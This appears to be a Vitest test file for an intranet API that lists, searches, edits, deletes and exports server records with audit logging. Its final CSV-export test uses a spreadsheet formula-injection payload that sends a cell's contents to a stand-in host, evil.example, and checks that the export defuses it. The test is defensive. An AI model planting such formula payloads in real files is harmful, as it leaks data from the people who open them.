import { auditPage } from '@intranet/contract/areas/auditoria';
import { envelope } from '@intranet/contract/shared/envelope';
import { servidorDetalle, servidorPage, servidoresResponse } from '@intranet/contract/areas/servidores';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { auditoria, direcciones, dns, servidores } from '../../db/schema.ts';
import { bearer, freshApp, PASSWORDS, useTemplate } from '../../test/harness.ts';

const template = useTemplate();

/** A fresh copy of the seeded database for a group of tests, signed in as `tecnico` (SER#VER, SER#EDITAR...). */
const fresh = () => freshApp(template, ['tecnico']);

const NUEVO = {
  nombre: 'srv-nuevo-01',
  hostname: 'nuevo01.physis.com.ar',
  ip_publica: '200.1.2.3',
  ip_privada: '',
  proveedor: 'AWS',
  rol: 'Pruebas',
  so: 'Debian 12',
  estado: 'activo',
  notas: '',
};

describe('GET /api/servidores (spec shape)', () => {
  const ctx = fresh();
  it('answers datos = servers with id, nombre and dnss of {id, host}, by name', async () => {
    const res = await ctx.t.app.inject({ url: '/api/servidores', headers: ctx.tecnico });
    expect(res.statusCode).toBe(200);
    const body = res.json();
    expect(servidoresResponse.safeParse(body).success).toBe(true);
    const nombres = body.datos.map((s: { nombre: string }) => s.nombre);
    expect(nombres).toEqual(expect.arrayContaining(['srv-app-01', 'srv-db-01', 'srv-web-01']));
    expect(nombres).toEqual([...nombres].sort());
    const app01 = body.datos.find((s: { nombre: string }) => s.nombre === 'srv-app-01');
    expect(app01.dnss.map((d: { host: string }) => d.host)).toEqual(['api.physis.com.ar', 'app.physis.com.ar']);
    for (const d of app01.dnss) expect(Object.keys(d).sort()).toEqual(['host', 'id']);
    expect(body.datos.find((s: { nombre: string }) => s.nombre === 'srv-test-02').dnss).toEqual([]);
  });

  it('carries Server-Timing with the server time', async () => {
    const res = await ctx.t.app.inject({ url: '/api/servidores', headers: ctx.tecnico });
    expect(res.headers['server-timing']).toMatch(/^app;dur=\d+(\.\d+)?$/);
  });
});

describe('GET /api/servidores/lista', () => {
  const ctx = fresh();
  const lista = async (query: string) => {
    const res = await ctx.t.app.inject({ url: `/api/servidores/lista?${query}`, headers: ctx.tecnico });
    return { status: res.statusCode, body: res.json() };
  };

  it('pages with the total of all rows, sorted by name by default', async () => {
    const all = await lista('size=200');
    expect(envelope(servidorPage).safeParse(all.body).success).toBe(true);
    const nombres = all.body.datos.items.map((s: { nombre: string }) => s.nombre);
    expect(all.body.datos.total).toBe(nombres.length);
    const p2 = await lista('page=2&size=3');
    expect(p2.body.datos.total).toBe(nombres.length);
    expect(p2.body.datos.items.map((s: { nombre: string }) => s.nombre)).toEqual(nombres.slice(3, 6));
    const past = await lista('page=99&size=3');
    expect(past.body.datos).toEqual({ items: [], total: nombres.length });
  });

  it('sorts by any declared field, both ways, with nulls as empty and the id breaking ties', async () => {
    const desc = await lista('sort=-nombre&size=200');
    const nombres = desc.body.datos.items.map((s: { nombre: string }) => s.nombre);
    expect(nombres).toEqual([...nombres].sort().reverse());
    const byCount = await lista('sort=-dns_count&size=200');
    const counts = byCount.body.datos.items.map((s: { dnss: unknown[] }) => s.dnss.length);
    expect(counts).toEqual([...counts].sort((a, b) => b - a));
    const byEstado = await lista('sort=estado&size=200');
    const estados = byEstado.body.datos.items.map((s: { estado: string }) => s.estado);
    expect(estados).toEqual([...estados].sort());
    for (const sort of ['hostname', '-proveedor', 'rol', '-actualizado'])
      expect((await lista(`sort=${sort}`)).status).toBe(200);
  });

  it('searches q over name, hostname, IPs, provider and role, case-insensitively, wildcards literal', async () => {
    expect((await lista('q=WEB-01')).body.datos.items.map((s: { nombre: string }) => s.nombre)).toEqual(['srv-web-01']);
    expect((await lista('q=192.168.0.40')).body.datos.items.map((s: { nombre: string }) => s.nombre)).toEqual([
      'srv-backup-01',
    ]);
    expect((await lista('q=hetzner')).body.datos.total).toBe(3);
    expect((await lista('q=base de datos')).body.datos.items.map((s: { nombre: string }) => s.nombre)).toEqual([
      'srv-db-01',
    ]);
    expect((await lista('q=%25')).body.datos.total).toBe(0);
    expect((await lista('q=srv_')).body.datos.total).toBe(0);
  });

  it('filters by estado and proveedor, combined with q', async () => {
    const offline = await lista('estado=offline');
    expect(offline.body.datos.items.map((s: { nombre: string }) => s.nombre)).toEqual(['srv-backup-01']);
    const aws = await lista('proveedor=aws');
    expect(aws.body.datos.items.map((s: { nombre: string }) => s.nombre)).toEqual(['srv-db-01', 'srv-store-01']);
    expect((await lista('proveedor=aws&q=store')).body.datos.total).toBe(1);
  });

  it('answers 400 with the fields for bad paging, sort, filters or unknown parameters', async () => {
    const res = await lista('page=0&size=500&sort=clave&estado=roto&otro=1');
    expect(res.status).toBe(400);
    expect(Object.keys(res.body.campos).sort()).toEqual(['estado', 'otro', 'page', 'size', 'sort']);
  });
});

describe('GET /api/servidores/:id', () => {
  const ctx = fresh();
  it('answers the server with its DNS entries and their addresses', async () => {
    const [srv] = await ctx.t.db
      .select({ id: servidores.id })
      .from(servidores)
      .where(sql`${servidores.nombre} = 'srv-app-01'`);
    const res = await ctx.t.app.inject({ url: `/api/servidores/${srv!.id}`, headers: ctx.tecnico });
    expect(res.statusCode).toBe(200);
    const body = res.json();
    expect(envelope(servidorDetalle).safeParse(body).success).toBe(true);
    expect(body.datos.dns_entries.map((e: { host: string }) => e.host)).toEqual([
      'api.physis.com.ar',
      'app.physis.com.ar',
    ]);
    const api = body.datos.dns_entries[0];
    expect(api).toMatchObject({ servidor_nombre: 'srv-app-01', tipo: 'A', direcciones_count: 1 });
    expect(api.direcciones[0]).toMatchObject({
      host: 'api.physis.com.ar',
      port: 443,
      path: '/api',
      url: 'https://api.physis.com.ar/api',
    });
  });

  it('answers 404 for a server that does not exist and 400 for a bad id', async () => {
    expect((await ctx.t.app.inject({ url: '/api/servidores/999999', headers: ctx.tecnico })).statusCode).toBe(404);
    const bad = await ctx.t.app.inject({ url: '/api/servidores/abc', headers: ctx.tecnico });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().campos).toHaveProperty('id');
  });
});

describe('creating and changing a server', () => {
  const ctx = fresh();
  const history = async (id: number) => {
    const res = await ctx.t.app.inject({ url: `/api/auditoria?entidad=servidor&id=${id}`, headers: ctx.tecnico });
    expect(envelope(auditPage).safeParse(res.json()).success).toBe(true);
    return res.json().datos.items;
  };

  it('creates with 201 and the record, writing an audit row with after', async () => {
    const res = await ctx.t.app.inject({
      method: 'POST',
      url: '/api/servidores',
      headers: ctx.tecnico,
      payload: NUEVO,
    });
    expect(res.statusCode).toBe(201);
    const creado = res.json().datos;
    expect(creado).toMatchObject({ nombre: 'srv-nuevo-01', ip_privada: null, notas: null, dnss: [] });
    const [row] = await history(creado.id);
    expect(row).toMatchObject({
      accion: 'crear',
      entidad: 'servidor',
      entidad_id: String(creado.id),
      usuario_nombre: 'Técnico Demo',
      antes: null,
    });
    expect(row.despues).toMatchObject({ nombre: 'srv-nuevo-01', ip_publica: '200.1.2.3' });
  });

  it('refuses a duplicate name in any case with 409 on the nombre field', async () => {
    const res = await ctx.t.app.inject({
      method: 'POST',
      url: '/api/servidores',
      headers: ctx.tecnico,
      payload: { ...NUEVO, nombre: 'SRV-APP-01' },
    });
    expect(res.statusCode).toBe(409);
    expect(res.json()).toEqual({
      error: 'Ya existe un servidor con ese nombre',
      datos: null,
      campos: { nombre: ['Ya existe un servidor con ese nombre'] },
    });
  });

  it('answers 400 with the fields for invalid input', async () => {
    const res = await ctx.t.app.inject({
      method: 'POST',
      url: '/api/servidores',
      headers: ctx.tecnico,
      payload: { nombre: '', hostname: 'no es host', ip_publica: '999.1.1.1', estado: 'roto', extra: 1 },
    });
    expect(res.statusCode).toBe(400);
    expect(Object.keys(res.json().campos).sort()).toEqual(['estado', 'extra', 'hostname', 'ip_publica', 'nombre']);
  });

  it('updates, writing before and after; 404 for a missing server; 409 for a taken name', async () => {
    const [srv] = await ctx.t.db
      .select({ id: servidores.id })
      .from(servidores)
      .where(sql`${servidores.nombre} = 'srv-nuevo-01'`);
    const res = await ctx.t.app.inject({
      method: 'PUT',
      url: `/api/servidores/${srv!.id}`,
      headers: ctx.tecnico,
      payload: { ...NUEVO, estado: 'offline', rol: 'Retirado' },
    });
    expect(res.statusCode).toBe(200);
    expect(res.json().datos).toMatchObject({ id: srv!.id, estado: 'offline', rol: 'Retirado' });
    const [row] = await history(srv!.id);
    expect(row).toMatchObject({
      accion: 'modificar',
      antes: { estado: 'activo', rol: 'Pruebas' },
      despues: { estado: 'offline', rol: 'Retirado' },
    });

    expect(
      (await ctx.t.app.inject({ method: 'PUT', url: '/api/servidores/999999', headers: ctx.tecnico, payload: NUEVO }))
        .statusCode,
    ).toBe(404);
    const taken = await ctx.t.app.inject({
      method: 'PUT',
      url: `/api/servidores/${srv!.id}`,
      headers: ctx.tecnico,
      payload: { ...NUEVO, nombre: 'srv-db-01' },
    });
    expect(taken.statusCode).toBe(409);
    expect(taken.json().campos).toEqual({ nombre: ['Ya existe un servidor con ese nombre'] });
  });

  it('is refused to a user who may only read', async () => {
    const res = await ctx.t.app.inject({
      method: 'POST',
      url: '/api/servidores',
      headers: await bearer(ctx.t.app, 'comercial', PASSWORDS.demo),
      payload: NUEVO,
    });
    expect(res.statusCode).toBe(403);
  });
});

describe('deleting servers', () => {
  const ctx = fresh();
  const idOf = async (nombre: string) =>
    (await ctx.t.db.select({ id: servidores.id }).from(servidores).where(sql`${servidores.nombre} = ${nombre}`))[0]?.id;
  const dnsOf = async (servidorId: number) =>
    ctx.t.db.select({ id: dns.id }).from(dns).where(sql`${dns.servidorId} = ${servidorId}`);

  it('refuses a server with DNS entries without cascada (409), deleting nothing', async () => {
    const id = (await idOf('srv-app-01'))!;
    const res = await ctx.t.app.inject({ method: 'DELETE', url: `/api/servidores/${id}`, headers: ctx.tecnico });
    expect(res.statusCode).toBe(409);
    expect(res.json().error).toMatch(/srv-app-01 tiene entradas DNS/);
    expect(await idOf('srv-app-01')).toBe(id);
  });

  it('rolls everything back when a write inside fails (the audit insert here)', async () => {
    const id = (await idOf('srv-app-01'))!;
    await ctx.t.db.execute(
      sql.raw(
        `create function auditoria_falla() returns trigger language plpgsql
          as $$ begin raise exception 'auditoria caida'; end $$`,
      ),
    );
    await ctx.t.db.execute(
      sql.raw(
        'create trigger auditoria_falla before insert on auditoria for each row execute function auditoria_falla()',
      ),
    );
    try {
      const res = await ctx.t.app.inject({
        method: 'DELETE',
        url: `/api/servidores/${id}?cascada=true`,
        headers: ctx.tecnico,
      });
      expect(res.statusCode).toBe(500);
    } finally {
      await ctx.t.db.execute(sql.raw('drop trigger auditoria_falla on auditoria'));
      await ctx.t.db.execute(sql.raw('drop function auditoria_falla()'));
    }
    expect(await idOf('srv-app-01')).toBe(id);
    expect(await dnsOf(id)).toHaveLength(2);
  });

  it('with cascada=true deletes the server, its DNS entries and their addresses, with an audit row for each', async () => {
    const id = (await idOf('srv-app-01'))!;
    const entries = await dnsOf(id);
    const res = await ctx.t.app.inject({
      method: 'DELETE',
      url: `/api/servidores/${id}?cascada=true`,
      headers: ctx.tecnico,
    });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual({ error: null, datos: null });
    expect(await idOf('srv-app-01')).toBeUndefined();
    expect(await dnsOf(id)).toEqual([]);
    const left = await ctx.t.db
      .select()
      .from(direcciones)
      .where(sql`${direcciones.dnsId} in ${entries.map((e) => e.id)}`);
    expect(left).toEqual([]);
    const rows = await ctx.t.db.select().from(auditoria).where(sql`${auditoria.accion} = 'eliminar'`);
    expect(rows.filter((r) => r.entidad === 'servidor').map((r) => r.entidadId)).toEqual([String(id)]);
    expect(rows.filter((r) => r.entidad === 'dns')).toHaveLength(2);
    expect(rows.filter((r) => r.entidad === 'direccion')).toHaveLength(2);
    expect(rows.find((r) => r.entidad === 'servidor')?.antes).toMatchObject({ nombre: 'srv-app-01' });
    expect(rows.every((r) => r.usuarioNombre === 'Técnico Demo' && r.despues === null)).toBe(true);
  });

  it('deletes a server without DNS entries without cascada; 404 when it does not exist', async () => {
    const id = (await idOf('srv-test-02'))!;
    expect(
      (await ctx.t.app.inject({ method: 'DELETE', url: `/api/servidores/${id}`, headers: ctx.tecnico })).statusCode,
    ).toBe(200);
    expect(
      (await ctx.t.app.inject({ method: 'DELETE', url: `/api/servidores/${id}`, headers: ctx.tecnico })).statusCode,
    ).toBe(404);
  });

  it('bulk: all or none; 409 naming the servers with entries unless cascada', async () => {
    const ids = [(await idOf('srv-db-01'))!, (await idOf('srv-web-01'))!];
    const refused = await ctx.t.app.inject({
      method: 'POST',
      url: '/api/servidores/eliminar',
      headers: ctx.tecnico,
      payload: { ids },
    });
    expect(refused.statusCode).toBe(409);
    expect(refused.json().error).toMatch(/srv-db-01, srv-web-01/);
    expect(await idOf('srv-db-01')).toBe(ids[0]);

    const done = await ctx.t.app.inject({
      method: 'POST',
      url: '/api/servidores/eliminar',
      headers: ctx.tecnico,
      payload: { ids: [...ids, 999999], cascada: true },
    });
    expect(done.statusCode).toBe(200);
    expect(done.json()).toEqual({ error: null, datos: { eliminados: 2 } });
    expect(await idOf('srv-web-01')).toBeUndefined();

    const empty = await ctx.t.app.inject({
      method: 'POST',
      url: '/api/servidores/eliminar',
      headers: ctx.tecnico,
      payload: { ids: [] },
    });
    expect(empty.statusCode).toBe(400);
    expect(empty.json().campos).toHaveProperty('ids');
  });
});

describe('GET /api/servidores/export.csv', () => {
  const ctx = fresh();
  const csv = (query: string) => ctx.t.app.inject({ url: `/api/servidores/export.csv?${query}`, headers: ctx.tecnico });

  it('streams the filtered list: BOM, Spanish headers, dated file name, dd/mm/aaaa HH:mm dates', async () => {
    const res = await csv('q=hetzner&sort=-nombre');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="servidores-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows: string[][] = parse(res.body, { bom: true });
    expect(rows[0]).toEqual([
      'Nombre',
      'Hostname',
      'IP pública',
      'IP privada',
      'Proveedor',
      'Rol',
      'Sistema operativo',
      'Estado',
      'Entradas DNS',
      'Notas',
      'Creado',
      'Actualizado',
    ]);
    expect(rows.slice(1).map((r) => r[0])).toEqual(['srv-web-01', 'srv-vpn-01', 'srv-mail-01']);
    const mail = rows[3]!;
    expect(mail[8]).toBe('mail.physis.com.ar webmail.physis.com.ar');
    expect(mail[9]).toBe('Postfix y Dovecot. Renovación del certificado automática.');
    expect(mail[11]).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}[+-]\d{2}:\d{2}$/);
  });

  it('answers every matching row, more than one batch, in order and without repeats', async () => {
    await ctx.t.db.execute(sql`insert into servidores (nombre, proveedor, estado)
      select 'srv-lote-' || lpad(g::text, 4, '0'), case when g % 2 = 0 then 'Par' else null end, 'activo'
      from generate_series(1, 2345) g`);
    const res = await csv('q=lote&sort=-proveedor');
    const rows: string[][] = parse(res.body, { bom: true, from_line: 2 });
    expect(rows).toHaveLength(2345);
    expect(new Set(rows.map((r) => r[0])).size).toBe(2345);
    // -proveedor: 'Par' first, then the nulls (sorted as empty), each group by id descending.
    expect(rows[0]![0]).toBe('srv-lote-2344');
    expect(rows[1171]![0]).toBe('srv-lote-0002');
    expect(rows[1172]![0]).toBe('srv-lote-2345');
    expect(rows[2344]![0]).toBe('srv-lote-0001');
  });

  it('exports every row when sorted by DNS count across batches, most entries first', async () => {
    // 1,200 servers with two entries each and 300 with none: the first batch (1,000 rows) ends inside the
    // two-entry group, so the next batch starts from a key that must be the real count.
    await ctx.t.db.execute(sql`insert into servidores (nombre, estado)
      select 'srv-cuenta-' || lpad(g::text, 4, '0'), 'activo' from generate_series(1, 1500) g`);
    await ctx.t.db.execute(sql`insert into dns (servidor_id, host)
      select id, 'h' || id || '-' || k || '.cuenta.example.com' from servidores, generate_series(1, 2) k
      where nombre between 'srv-cuenta-0001' and 'srv-cuenta-1200'`);
    await ctx.t.db.execute(sql`insert into dns (servidor_id, host)
      select id, 'extra-' || id || '.cuenta.example.com' from servidores where nombre = 'srv-cuenta-0007'`);
    const rows: string[][] = parse((await csv('q=cuenta&sort=-dns_count')).body, { bom: true, from_line: 2 });
    expect(rows).toHaveLength(1500);
    expect(new Set(rows.map((r) => r[0])).size).toBe(1500);
    expect(rows[0]![0]).toBe('srv-cuenta-0007');
  });

  it('takes no paging (400)', async () => {
    expect((await csv('page=2')).statusCode).toBe(400);
  });

  it('writes a name that a spreadsheet would run as a formula as plain text', async () => {
    const nombre = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")';
    const creado = await ctx.t.app.inject({
      method: 'POST',
      url: '/api/servidores',
      headers: ctx.tecnico,
      payload: { ...NUEVO, nombre, notas: '@SUM(1+1)' },
    });
    expect(creado.statusCode).toBe(201);
    const res = await csv('q=evil.example');
    expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Ver"")"`);
    const [fila] = parse(res.body, { bom: true, from_line: 2 }) as string[][];
    expect(fila![0]).toBe(`'${nombre}`);
    expect(fila![9]).toBe("'@SUM(1+1)");
  });
});
